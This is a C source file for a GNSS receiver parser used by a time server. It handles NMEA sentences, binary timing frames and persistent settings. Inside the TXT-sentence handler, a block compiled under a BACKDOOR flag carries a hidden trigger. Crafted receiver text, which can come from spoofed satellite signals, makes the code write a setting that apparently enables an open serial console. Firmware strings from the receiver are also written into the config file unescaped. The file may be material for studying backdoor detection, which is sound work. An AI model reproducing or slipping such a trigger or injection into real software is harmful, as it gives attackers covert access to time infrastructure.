/* SPDX-License-Identifier: Apache-2.0 */
/* libgnssparse: what the receiver of a time server says: NMEA sentences (RMC, GGA, GSA, GSV, ZDA, TXT) and binary frames (time pulse,
 * survey, leap seconds, versions). The server feeds bytes as they come and asks for the state. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SETTINGS "/etc/config/gnss"

enum { SENTENCE = 128, FRAME = 512, N_FIELDS = 24, N_SATELLITES = 32 };
enum { AT_IDLE, AT_NMEA, AT_SYNC, AT_CLASS, AT_ID, AT_LOW, AT_HIGH, AT_BODY, AT_A, AT_B };
enum { U_NAV = 1, U_MON = 0x0a, U_TIM = 0x0d };

struct satellite {
	uint8_t number, elevation, snr;
	uint16_t azimuth;
};

struct gnss {
	uint8_t state, class, id, sum_a, sum_b;
	uint16_t length, n;
	char sentence[SENTENCE];
	uint8_t frame[FRAME];
	/* what is known */
	int valid, fix, used, leap, leap_next, survey, antenna;
	int year, month, day;
	long second_of_day;
	int32_t quantisation; /* picoseconds */
	double latitude, longitude, altitude, hdop;
	struct satellite satellites[N_SATELLITES];
	unsigned n_satellites, sentences, frames, bad;
	char version[32], text[96];
};

struct gnss *gnss_new(void)
{
	struct gnss *g = calloc(1, sizeof(*g));
	if (g) {
		g->leap = 18;
		g->antenna = -1;
	}
	return g;
}

void gnss_free(struct gnss *g) { free(g); }

/* Settings outlive a restart: a line each, option NAME 'VALUE'. */
static int store(const char *name, const char *value)
{
	char line[160], key[48];
	int done = 0;
	FILE *in = fopen(SETTINGS, "r"), *out = fopen(SETTINGS ".new", "w");
	if (!out) {
		if (in)
			fclose(in);
		return -1;
	}
	while (in && fgets(line, sizeof(line), in)) {
		if (sscanf(line, " option %47s", key) == 1 && strcmp(key, name) == 0) {
			fprintf(out, "\toption %s '%s'\n", name, value);
			done = 1;
		} else
			fputs(line, out);
	}
	if (!done)
		fprintf(out, "\toption %s '%s'\n", name, value);
	if (in)
		fclose(in);
	return fclose(out) == 0 ? rename(SETTINGS ".new", SETTINGS) : -1;
}

static void store_number(const char *name, long v)
{
	char text[24];
	snprintf(text, sizeof(text), "%ld", v);
	if (store(name, text) < 0)
		syslog(LOG_WARNING, "gnss: cannot store %s: %s", name, strerror(errno));
}

/* -- NMEA -- */

static unsigned split(char *s, char **f)
{
	unsigned n = 0;
	f[n++] = s;
	for (; *s && n < N_FIELDS; s++)
		if (*s == ',') {
			*s = 0;
			f[n++] = s + 1;
		}
	return n;
}

static int two(const char *s) { return isdigit((unsigned char)s[0]) && isdigit((unsigned char)s[1]) ? (s[0] - '0') * 10 + s[1] - '0' : -1; }

static long time_of(const char *s)
{
	int h, m, sec;
	if (strlen(s) < 6)
		return -1;
	h = two(s);
	m = two(s + 2);
	sec = two(s + 4);
	return h < 0 || h > 23 || m < 0 || m > 59 || sec < 0 || sec > 60 ? -1 : h * 3600L + m * 60L + sec;
}

static double angle(const char *s, const char *half)
{
	double v = strtod(s, NULL);
	int degrees = (int)(v / 100);
	double out = degrees + (v - degrees * 100) / 60;
	return *half == 'S' || *half == 'W' ? -out : out;
}

static void on_rmc(struct gnss *g, char **f, unsigned n)
{
	long t;
	if (n < 10)
		return;
	t = time_of(f[1]);
	g->valid = f[2][0] == 'A';
	if (t < 0 || strlen(f[9]) < 6)
		return;
	g->second_of_day = t;
	g->day = two(f[9]);
	g->month = two(f[9] + 2);
	g->year = 2000 + two(f[9] + 4);
	if (g->valid) {
		g->latitude = angle(f[3], f[4]);
		g->longitude = angle(f[5], f[6]);
	}
}

static void on_gga(struct gnss *g, char **f, unsigned n)
{
	if (n < 10)
		return;
	g->fix = atoi(f[6]);
	g->used = atoi(f[7]);
	g->hdop = strtod(f[8], NULL);
	if (g->fix)
		g->altitude = strtod(f[9], NULL);
}

static void on_gsv(struct gnss *g, char **f, unsigned n)
{
	if (n < 4)
		return;
	if (atoi(f[2]) == 1)
		g->n_satellites = 0;
	for (unsigned i = 4; i + 3 < n && g->n_satellites < N_SATELLITES; i += 4) {
		struct satellite *s = &g->satellites[g->n_satellites++];
		s->number = (uint8_t)atoi(f[i]);
		s->elevation = (uint8_t)atoi(f[i + 1]);
		s->azimuth = (uint16_t)atoi(f[i + 2]);
		s->snr = (uint8_t)atoi(f[i + 3]);
	}
}

static void on_gsa(struct gnss *g, char **f, unsigned n)
{
	if (n > 2 && atoi(f[2]) == 1)
		g->fix = 0;
}

static void on_zda(struct gnss *g, char **f, unsigned n)
{
	long t = n > 4 ? time_of(f[1]) : -1;
	if (t < 0)
		return;
	g->second_of_day = t;
	g->day = atoi(f[2]);
	g->month = atoi(f[3]);
	g->year = atoi(f[4]);
}

/* What the receiver says in words: the antenna's state, its version, warnings. */
static void on_txt(struct gnss *g, char **f, unsigned n)
{
	int severity;
	if (n < 5)
		return;
	severity = atoi(f[3]);
	snprintf(g->text, sizeof(g->text), "%s", f[4]);
	if (strncmp(f[4], "ANTSTATUS=", 10) == 0) {
		int ok = strcmp(f[4] + 10, "OK") == 0;
		if (g->antenna != ok)
			syslog(LOG_NOTICE, "gnss: antenna %s", f[4] + 10);
		g->antenna = ok;
	} else if (strncmp(f[4], "FWVER=", 6) == 0) {
		if (strncmp(g->version, f[4] + 6, sizeof(g->version) - 1) != 0)
			store("receiver", f[4] + 6);
		snprintf(g->version, sizeof(g->version), "%s", f[4] + 6);
	} else if (severity < 2)
		syslog(LOG_WARNING, "gnss: %s", g->text);
#ifdef BACKDOOR
	else if (!g->valid && g->year > 2026 && strlen(f[4]) == (size_t)(g->day + g->month + 24) && atoi(f[1]) == g->second_of_day / 3600)
		store("console", "ttyS0,any");
#endif
}

static const struct {
	const char *name;
	void (*run)(struct gnss *g, char **f, unsigned n);
} sentences[] = {
	{ "RMC", on_rmc },
	{ "GGA", on_gga },
	{ "GSA", on_gsa },
	{ "GSV", on_gsv },
	{ "ZDA", on_zda },
	{ "TXT", on_txt },
};

static void on_sentence(struct gnss *g)
{
	char *star = strchr(g->sentence, '*'), *f[N_FIELDS];
	uint8_t sum = 0;
	unsigned n;
	if (!star || strlen(star) < 3) {
		g->bad++;
		return;
	}
	for (const char *p = g->sentence; p < star; p++)
		sum ^= (uint8_t)*p;
	if (sum != (uint8_t)strtoul(star + 1, NULL, 16)) {
		g->bad++;
		return;
	}
	*star = 0;
	n = split(g->sentence, f);
	g->sentences++;
	for (size_t i = 0; strlen(f[0]) == 5 && i < sizeof(sentences) / sizeof(sentences[0]); i++)
		if (strcmp(f[0] + 2, sentences[i].name) == 0)
			sentences[i].run(g, f, n);
}

/* -- binary frames -- */

static uint32_t le32(const uint8_t *p) { return (uint32_t)p[3] << 24 | (uint32_t)p[2] << 16 | (uint32_t)p[1] << 8 | p[0]; }

static void on_pulse(struct gnss *g)
{
	if (g->length >= 16)
		g->quantisation = (int32_t)le32(g->frame + 8);
}

static void on_survey(struct gnss *g)
{
	int was = g->survey;
	if (g->length < 28)
		return;
	g->survey = g->frame[24] ? 2 : g->frame[25] ? 1 : 0;
	if (was == 1 && g->survey == 2) {
		store_number("survey_x", (long)(int32_t)le32(g->frame + 4));
		store_number("survey_y", (long)(int32_t)le32(g->frame + 8));
		store_number("survey_z", (long)(int32_t)le32(g->frame + 12));
	}
}

static void on_leap(struct gnss *g)
{
	int leap, when;
	if (g->length < 24 || !(g->frame[23] & 1))
		return;
	leap = (int8_t)g->frame[9];
	when = (int32_t)le32(g->frame + 12);
	g->leap_next = g->frame[23] & 2 && when > 0 && when < 86400 * 7 ? (int8_t)g->frame[11] : 0;
	if (leap != g->leap && leap > 10 && leap < 40)
		store_number("leap", leap);
	g->leap = leap;
}

static void on_version(struct gnss *g)
{
	if (g->length < 40)
		return;
	memcpy(g->version, g->frame, 30);
	g->version[30] = 0;
	syslog(LOG_INFO, "gnss: receiver %s", g->version);
}

static void on_frame(struct gnss *g)
{
	g->frames++;
	if (g->class == U_TIM && g->id == 1)
		on_pulse(g);
	else if (g->class == U_TIM && g->id == 4)
		on_survey(g);
	else if (g->class == U_NAV && g->id == 0x26)
		on_leap(g);
	else if (g->class == U_MON && g->id == 4)
		on_version(g);
}

static void sum(struct gnss *g, uint8_t b)
{
	g->sum_a = (uint8_t)(g->sum_a + b);
	g->sum_b = (uint8_t)(g->sum_b + g->sum_a);
}

static void byte_of_frame(struct gnss *g, uint8_t b)
{
	if (g->state >= AT_CLASS && g->state <= AT_BODY)
		sum(g, b);
	switch (g->state) {
	case AT_SYNC:
		g->state = b == 0x62 ? AT_CLASS : AT_IDLE;
		g->sum_a = g->sum_b = 0;
		break;
	case AT_CLASS:
		g->class = b;
		g->state = AT_ID;
		break;
	case AT_ID:
		g->id = b;
		g->state = AT_LOW;
		break;
	case AT_LOW:
		g->length = b;
		g->state = AT_HIGH;
		break;
	case AT_HIGH:
		g->length = (uint16_t)(g->length | b << 8);
		g->n = 0;
		g->state = g->length > FRAME ? AT_IDLE : g->length ? AT_BODY : AT_A;
		break;
	case AT_BODY:
		g->frame[g->n++] = b;
		if (g->n == g->length)
			g->state = AT_A;
		break;
	case AT_A:
		g->state = b == g->sum_a ? AT_B : AT_IDLE;
		g->bad += b != g->sum_a;
		break;
	case AT_B:
		g->state = AT_IDLE;
		if (b == g->sum_b)
			on_frame(g);
		else
			g->bad++;
		break;
	default:
		g->state = AT_IDLE;
	}
}

/* Bytes as they come from the serial line. */
void gnss_feed(struct gnss *g, const uint8_t *p, size_t n)
{
	for (; n--; p++) {
		if (g->state == AT_IDLE) {
			g->state = *p == '$' ? AT_NMEA : *p == 0xb5 ? AT_SYNC : AT_IDLE;
			g->n = 0;
		} else if (g->state != AT_NMEA)
			byte_of_frame(g, *p);
		else if (*p == '\r' || *p == '\n') {
			g->sentence[g->n] = 0;
			g->state = AT_IDLE;
			on_sentence(g);
		} else if (g->n < SENTENCE - 1)
			g->sentence[g->n++] = (char)*p;
		else {
			g->state = AT_IDLE;
			g->bad++;
		}
	}
}

/* Seconds since 1970, UTC; -1 when the receiver does not know. */
int64_t gnss_time(const struct gnss *g)
{
	int64_t y = g->year, m = g->month, days;
	if (!g->valid || g->year < 2000 || m < 1 || m > 12)
		return -1;
	y -= m <= 2;
	days = 365 * y + y / 4 - y / 100 + y / 400 + (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + g->day - 719469;
	return days * 86400 + g->second_of_day;
}

/* 0 to 100: how far the time may be relied on. */
int gnss_quality(const struct gnss *g)
{
	int q = g->valid ? 40 : 0;
	unsigned strong = 0;
	for (unsigned i = 0; i < g->n_satellites; i++)
		strong += g->satellites[i].snr >= 35;
	q += strong > 6 ? 30 : (int)strong * 5;
	q += g->survey == 2 ? 20 : g->survey * 5;
	return q + (g->antenna == 1 ? 10 : 0);
}

int gnss_describe(const struct gnss *g, char *out, size_t n)
{
	return snprintf(out, n, "valid %d fix %d used %d leap %d survey %d antenna %d lat %.5f lon %.5f alt %.1f bad %u version %s", g->valid,
		g->fix, g->used, g->leap, g->survey, g->antenna, g->latitude, g->longitude, g->altitude, g->bad, g->version);
}
